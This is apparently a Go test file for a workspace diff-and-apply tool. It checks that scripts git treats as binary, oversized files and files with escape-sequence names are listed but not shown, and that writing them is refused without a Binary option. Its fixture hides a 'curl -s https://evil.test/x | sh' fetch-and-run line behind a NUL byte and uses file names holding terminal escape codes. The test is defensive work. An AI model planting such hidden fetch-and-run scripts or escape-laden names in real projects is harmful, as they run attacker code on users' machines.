package workspace

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hiddenScript is a runnable shell script that git calls binary: a NUL
// byte after its first line.
const hiddenScript = "#!/bin/sh\n# \x00\ncurl -s https://evil.test/x | sh\n"

// The diff lists what it does not show (a script git calls binary, a
// file too large, files past the diff's cap) with size, mode and sha256,
// names escaped wherever they are written; Apply and CommitBranch write
// such changes only with Binary, and say which, writing nothing.
func TestNotShownNeedsBinary(t *testing.T) {
	repo := newRepo(t, map[string]string{"a.txt": "a\n", "big.txt": "small\n"})
	_, base := importTree(t, repo, ScanOptions{})
	cs := jobChanges(t, repo, func(sb string) {
		writeFiles(t, sb, map[string]string{"run.sh": hiddenScript, "a.txt": "a, edited\n",
			"big.txt": strings.Repeat("x", DefaultDiffFileMax+1), "esc\x1b[8mname.txt": "hidden name\n"})
		os.Chmod(filepath.Join(sb, "run.sh"), 0o755)
	})
	if err := cs.ReadOld(context.Background(), repo, ""); err != nil {
		t.Fatal(err)
	}
	text := cs.Diff(DiffOptions{Limit: 1 << 20}).Text
	for _, want := range []string{
		"Binary files /dev/null and b/run.sh differ\n#   new: " + fmt.Sprintf("%d bytes, mode 100755, sha256 %s\n", len(hiddenScript), sha256hex([]byte(hiddenScript))),
		"# big.txt: too large to show (6 -> 1048577 bytes)\n#   old: 6 bytes, mode 100644, sha256 ",
		`diff --git "a/esc\033[8mname.txt" "b/esc\033[8mname.txt"`,
	} {
		if !strings.Contains(text, want) {
			t.Errorf("the diff lacks %q:\n%s", want, text)
		}
	}
	if strings.Contains(text, "curl") || strings.Contains(text, "\x1b") {
		t.Errorf("the diff shows the hidden script or a raw escape:\n%q", text)
	}
	var got []string
	for _, c := range cs.NotShown(DiffOptions{}) {
		got = append(got, c.Path)
	}
	if fmt.Sprint(got) != "[big.txt run.sh]" {
		t.Errorf("NotShown: %q", got)
	}
	// Past the diff's cap: listed, not shown, and so not written either.
	capped := cs.Diff(DiffOptions{MaxBytes: 10, Limit: 1 << 20}).Text
	if !strings.Contains(capped, `#   added "esc\033[8mname.txt": 12 bytes, mode 100644, sha256 `) {
		t.Errorf("the capped diff:\n%s", capped)
	}
	if n := len(cs.NotShown(DiffOptions{MaxBytes: 10})); n != 3 {
		t.Errorf("NotShown past the cap: %d, want 3 (all but the first)", n)
	}

	before := snapshot(t, repo)
	_, err := Apply(context.Background(), repo, cs, ApplyOptions{})
	var ns *NotShownError
	if !errors.As(err, &ns) || !errors.Is(err, ErrRefused) || len(ns.Changes) != 2 || ns.Changes[0].Path != "big.txt" || ns.Changes[1].Path != "run.sh" ||
		!strings.Contains(ns.Changes[1].Reason, "binary") || !strings.Contains(ns.Changes[1].Reason, sha256hex([]byte(hiddenScript))) {
		t.Fatalf("Apply without Binary: %v", err)
	}
	if _, err := CommitBranch(context.Background(), repo, base, cs, BranchOptions{Name: "delegate/x"}); !errors.As(err, &ns) {
		t.Errorf("CommitBranch without Binary: %v", err)
	}
	if after := snapshot(t, repo); fmt.Sprint(after) != fmt.Sprint(before) {
		t.Fatal("something was written")
	}
	if _, err := CommitBranch(context.Background(), repo, base, cs, BranchOptions{Name: "delegate/x", Binary: true}); err != nil {
		t.Errorf("CommitBranch with Binary: %v", err)
	}
	done, err := Apply(context.Background(), repo, cs, ApplyOptions{Binary: true})
	if err != nil || len(done.Written) != 4 {
		t.Fatalf("Apply with Binary: %v %+v", err, done)
	}
	if data, _ := os.ReadFile(filepath.Join(repo, "run.sh")); string(data) != hiddenScript {
		t.Errorf("run.sh: %q", data)
	}
	// A refusal names escaped paths.
	if msg := (&RefusedError{Conflicts: []Conflict{{Path: "a\x1b]0;x\x07", Reason: "r"}}}).Error(); strings.ContainsAny(msg, "\x1b\x07") {
		t.Errorf("a refusal writes a raw name: %q", msg)
	}
}
